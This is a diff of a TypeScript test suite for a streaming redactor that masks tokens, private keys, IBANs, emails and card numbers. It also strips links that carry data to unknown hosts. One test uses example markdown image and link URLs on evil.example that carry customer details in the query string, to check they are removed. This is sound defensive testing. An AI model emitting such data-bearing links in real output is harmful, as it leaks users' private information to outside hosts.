@@ -1,5 +1,6 @@
 import { findPersonalData } from './personalData';
-import { findSensitive, MaskedStream } from './MaskedStream';
+import { findSensitive } from './findSensitive';
+import { MaskedStream } from './MaskedStream';
 import { findSecrets } from './secrets';
 import { Tokens } from './Tokens';
 
@@ -65,6 +66,16 @@ describe('Tokens', () => {
     });
   });
 
+  it('are described by their kind and ending to people', async () => {
+    const tokens = new Tokens(SECRET, 'run-1');
+    const text = `${GITHUB} anna@a.example`;
+    const masked = tokens.mask(text, await findSensitive(text));
+    expect(tokens.describe({ masked })).toEqual({
+      masked: '[secret that ends in q7R8] [email]',
+    });
+    expect(new Tokens(SECRET, 'run-2').describe(masked)).toBe(masked);
+  });
+
   it('mean nothing in another run, and nothing when changed', () => {
     const masked = new Tokens(SECRET, 'run-1').mask('anna@acme.example', [
       { kind: 'email', start: 0, end: 17 },
@@ -76,32 +87,62 @@ describe('Tokens', () => {
 });
 
 describe('MaskedStream', () => {
-  const mask = (text: string, parts: { start: number; end: number }[]) =>
-    [...parts]
-      .reverse()
-      .reduce(
-        (masked, { end, start }) =>
-          `${masked.slice(0, start)}*${masked.slice(end)}`,
-        text,
-      );
+  const replace = ({ kind }: { kind: string }, value: string) =>
+    `<${kind} ${value.length}>`;
+  const KEY = `-----BEGIN PRIVATE KEY-----\n${'MIIEvQIBADANBgkqhkiG9w0B\n'.repeat(
+    20,
+  )}-----END PRIVATE KEY-----`;
+
+  async function masked(
+    text: string,
+    size: number,
+    options: Partial<ConstructorParameters<typeof MaskedStream>[0]> = {},
+  ) {
+    const stream = new MaskedStream({
+      replace,
+      findings: { secrets: true, personalData: true },
+      ...options,
+    });
+    let out = '';
+    for (let at = 0; at < text.length; at += size) {
+      out += await stream.push(text.slice(at, at + size));
+    }
+    return { early: out, whole: out + (await stream.end()) };
+  }
 
   it.each([1, 7, 64, 5_000])(
     'finds what is cut in pieces of %d characters',
     async size => {
       const filler = 'Some words about orders. '.repeat(30);
-      const text = `${filler}${GITHUB} ${filler}DE89 3704 0044 0532 0130 00 ${filler}anna@acme.example`;
-      const stream = new MaskedStream({ mask });
-      let out = '';
-      for (let at = 0; at < text.length; at += size) {
-        out += await stream.push(text.slice(at, at + size));
-      }
-      out += await stream.end();
-      expect(out).toBe(`${filler}* ${filler}* ${filler}*`);
+      const { whole } = await masked(
+        `${filler}${GITHUB} ${filler}DE89 3704 0044 0532 0130 00 ${filler}${KEY} anna@acme.example`,
+        size,
+      );
+      expect(whole).toBe(
+        `${filler}<secret 40> ${filler}<iban 27> ${filler}<secret ${KEY.length}> <email 17>`,
+      );
     },
   );
 
+  it('lets words go as they end, and says no secret before it knows one', async () => {
+    const stream = new MaskedStream({ replace, findings: { secrets: true } });
+    expect(await stream.push('Hello th')).toBe('Hello ');
+    expect(await stream.push(`ere. It is ${GITHUB.slice(0, 30)}`)).toBe(
+      'there. It is ',
+    );
+    expect(await stream.push(`${GITHUB.slice(30)}, keep`)).toBe(
+      '<secret 40>, ',
+    );
+    expect(await stream.push(' it')).toBe('keep ');
+    // Whoever breaks off does not call `end`.
+    expect(await stream.end()).toBe('it');
+  });
+
   it('holds back no more than it needs', async () => {
-    const stream = new MaskedStream({ mask, secrets: false });
+    const stream = new MaskedStream({
+      replace,
+      findings: { personalData: true },
+    });
     let held = 0;
     let given = 0;
     for (let i = 0; i < 2_000; i++) {
@@ -109,5 +150,60 @@ describe('MaskedStream', () => {
       given += (await stream.push(i % 2 ? 'wordword w' : 'ordwordwor')).length;
       expect(held - given).toBeLessThanOrEqual(600);
     }
+  });
+
+  it.each([
+    ['that never ends', `x ${KEY.slice(0, 300)}`, 'x <secret 300>'],
+    [
+      'that is longer than what is held',
+      `x ${KEY.replace('MII', 'MII\n'.repeat(4_000))} y`,
+      /^x <secret \d+> y$/,
+    ],
+  ])('masks a private key %s', async (_, text, expected) => {
+    const { early, whole } = await masked(text, 50);
+    expect(whole).toMatch(expected);
+    expect(early).not.toContain('MII');
+  });
+
+  it.each([3, 400])('leaves JSON what it is, in pieces of %d', async size => {
+    const json = JSON.stringify({
+      n: 4111111111111111,
+      note: `a "quoted"\n${GITHUB}\n`,
+      card: '4111 1111 1111 1111',
+    });
+    const { whole } = await masked(json, size, {
+      json: true,
+      replace: (_, value) => `"${value.slice(0, 4)}"`,
+    });
+    expect(JSON.parse(whole)).toEqual({
+      n: 4111111111111111,
+      note: 'a "quoted"\n"ghp_"\n',
+      card: '"4111"',
+    });
+  });
+
+  it('leaves out links that carry words to where nobody knows, and no others', async () => {
+    const links = {
+      isListed: (url: URL) => url.hostname === 'docs.acme.example',
+      isTold: (url: string) => url === 'https://shop.example/?order=SO-1234567',
+    };
+    const { whole } = await masked(
+      'See ![a chart](https://evil.example/p.png?d=the+customer+is+Anna), ' +
+        '![x](//evil.example/?d=the+customer) [more](https://evil.example/?q=the+customer) ' +
+        `https://evil.example/${'a'.repeat(
+          50,
+        )} https://docs.acme.example/?q=the+customer ` +
+        '[yours](https://shop.example/?order=SO-1234567) https://evil.example/about',
+      9,
+      {
+        findings: { links },
+        replace: ({ kind }) => `<${kind}>`,
+      },
+    );
+    expect(whole).toBe(
+      'See ![a chart](<image>), ![x](<image>) [more](<link>) <link> ' +
+        'https://docs.acme.example/?q=the+customer ' +
+        '[yours](https://shop.example/?order=SO-1234567) https://evil.example/about',
+    );
   });
 });
